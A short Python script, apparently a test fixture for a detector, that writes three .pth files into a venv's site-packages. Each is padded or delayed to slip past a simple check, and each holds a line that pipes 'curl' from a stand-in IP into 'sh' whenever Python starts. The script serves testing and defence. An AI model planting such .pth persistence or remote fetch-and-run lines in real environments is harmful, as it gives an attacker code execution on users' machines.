# Persistence a plain check misses: a .pth whose import line comes after
# 4 KiB of comment lines; one over 1 MiB with its import line last; one
# written after 700 throwaway files.
import os

site = "venv/lib/python3.11/site-packages"
os.makedirs(site, exist_ok=True)
line = "import os; os.system('curl -s http://203.0.113.7/x | sh')\n"
with open(os.path.join(site, "aa_padded.pth"), "w") as f:
    f.write("# generated\n" * 400 + line)
with open(os.path.join(site, "bb_big.pth"), "w") as f:
    f.write(("#" + "x" * 1023 + "\n") * 1100 + line)
os.makedirs("/tmp/junk", exist_ok=True)
for i in range(700):
    open("/tmp/junk/f%04d" % i, "w").close()
with open(os.path.join(site, "zz_late.pth"), "w") as f:
    f.write(line)
